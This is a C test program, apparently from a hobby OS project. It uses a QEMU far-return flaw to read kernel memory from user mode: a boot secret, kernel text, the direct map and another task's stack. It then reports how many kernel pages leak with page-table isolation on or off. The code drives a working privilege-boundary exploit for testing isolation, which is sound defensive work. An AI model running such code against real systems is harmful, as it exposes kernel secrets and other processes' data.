/*
 * meltdown: reads the kernel's memory from user mode, as far as the page tables
 * that are loaded map it.
 *
 * The processor's Meltdown is not there to be used in an emulator, but QEMU before
 * 9.1 has a flaw of its own that asks for no rights either (meltdown/far_return.c).
 * With pti=off this program reads the secret that the kernel drew at boot (it must
 * look for it: it knows only how it begins), kernel text, RAM, and the stack of
 * another task.  With pti=on the same instructions find the gate's pages, and in
 * those nothing of the kernel's.
 *
 * Right outcome: with pti=off, on an emulator with the flaw, the secret, and exit
 * status 1; else no page of the kernel's but the gate's, exit status 0.
 *
 *	-slow     pauses behind each letter
 *	-short    prints the secret and the total only
 *	-wait     where nothing answers, spins in ring 3 so that somebody may read the
 *	          same addresses from outside (scripts/meltdown.py)
 *	-outside  does not try, and spins
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "meltdown/far_return.h"
#include "meltdown/regions.h"
#include "../kernel/start/secret.h"

#define SHOWN 12       /* bytes */
#define MOST_LETTERS 80
#define PAUSE_US 60000
#define BEHIND_EDGE 16 /* far_return_bytes() */
#define RIP_BELOW_TOP 40 /* of a task's stack, if it came from user mode */

static bool slow, brief;

/* ---- The secret ------------------------------------------------------------------- */

static bool is_mark(uint64_t at)
{
	int16_t byte[sizeof(SECRET_MARK) - 1];

	if ((far_return_word(at) & 0xfffc) != ((SECRET_MARK[0] | SECRET_MARK[1] << 8) & 0xfffc))
		return false;
	far_return_bytes(at, sizeof(byte) / sizeof(byte[0]), byte);
	for (unsigned i = 0; i < sizeof(byte) / sizeof(byte[0]); i++)
		if (byte[i] != SECRET_MARK[i])
			return false;
	return true;
}

/* Of the sentence, or 0.  The image's data is at its end. */
static uint64_t find_secret(const struct region *image)
{
	for (uint64_t page = image->last; image->answers && page >= image->first;
	     page -= PAGE_BYTES)
		for (uint64_t at = page; at < page + PAGE_BYTES; at += SECRET_ALIGN)
			if (is_mark(at))
				return at + sizeof(SECRET_MARK) - 1;
	return 0;
}

/* Each letter leaves as soon as it is known. */
static bool print_secret(uint64_t at)
{
	int16_t letter;

	if (!at) {
		printf("meltdown: secret: not found\n");
		return false;
	}
	printf("meltdown: secret: ");
	for (unsigned i = 0; i < MOST_LETTERS; i++) {
		far_return_bytes(at + i, 1, &letter);
		if (letter <= 0)
			break;
		putchar(letter);
		fflush(stdout);
		if (slow)
			usleep(PAUSE_US);
	}
	printf("\n");
	return true;
}

/* ---- First bytes --------------------------------------------------------------------- */

static void print_bytes(const char *what, uint64_t at)
{
	int16_t byte[SHOWN];

	far_return_bytes(at, SHOWN, byte);
	printf("meltdown: bytes: %-11s %016llx", what, (unsigned long long)at);
	for (unsigned i = 0; i < SHOWN; i++)
		printf(byte[i] < 0 ? " ??" : " %02x", byte[i]);
	printf("\n");
}

/* The first stack whose task has been in user mode: where its RIP is saved. */
static uint64_t find_stack(const struct region *stacks)
{
	for (uint64_t top = stacks->start + STACK_CELL;
	     stacks->answers && top <= stacks->last + PAGE_BYTES; top += STACK_CELL)
		if (far_return_word(top - RIP_BELOW_TOP) > 0)
			return top - RIP_BELOW_TOP;
	return 0;
}

static void print_first(const char *what, uint64_t at)
{
	if (brief)
		return;
	if (at)
		print_bytes(what, at);
	else
		printf("meltdown: bytes: %-11s no answer\n", what);
}

static uint64_t first_of(const struct region *r)
{
	return r->answers ? r->first + BEHIND_EDGE : 0;
}

/* ---- The map -------------------------------------------------------------------------- */

/* How many pages that only the kernel should see. */
static unsigned print_map(void)
{
	unsigned hidden = 0, gate = 0;

	for (unsigned i = 0; i < NR_REGIONS; i++) {
		const struct region *r = &regions[i];

		*(r->gate ? &gate : &hidden) += r->answers;
		if (brief)
			continue;
		printf("meltdown: map: %016llx %-15s %5u of %5u", (unsigned long long)r->start,
		       r->name, r->answers, r->count);
		if (r->answers)
			printf(", +%llx to +%llx", (unsigned long long)(r->first - r->start),
			       (unsigned long long)(r->last - r->start));
		printf("\n");
	}
	printf("meltdown: total: %u hidden pages answer, %u of the gate\n", hidden, gate);
	return hidden;
}

static bool option(char **argv, const char *name)
{
	while (*++argv)
		if (strcmp(*argv, name) == 0)
			return true;
	return false;
}

/* Nothing answers, or is not asked; the script knows this line. */
static int give_up(bool stay)
{
	if (!stay)
		return 0;
	printf("meltdown: in ring 3, to be read from outside\n");
	for (;;)
		;
}

int main(int argc, char **argv)
{
	bool found;

	(void)argc;
	setvbuf(stdout, NULL, _IOLBF, 1024);
	slow = option(argv, "-slow");
	brief = option(argv, "-short");
	if (option(argv, "-outside"))
		return give_up(true);
	far_return_begin();
	if (!far_return_works()) {
		printf("meltdown: a far return reads its stack with ring 3's rights: nothing answers\n");
		return give_up(option(argv, "-wait"));
	}
	if (!brief)
		printf("meltdown: a far return reads its stack with the kernel's rights here\n");
	regions_ask();
	found = print_secret(find_secret(&regions[REGION_IMAGE]));
	print_first("kernel text", first_of(&regions[REGION_IMAGE]));
	print_first("direct map", first_of(&regions[REGION_DIRECT_MAP]));
	print_first("task stack", find_stack(&regions[REGION_STACKS]));
	return print_map() || found;
}
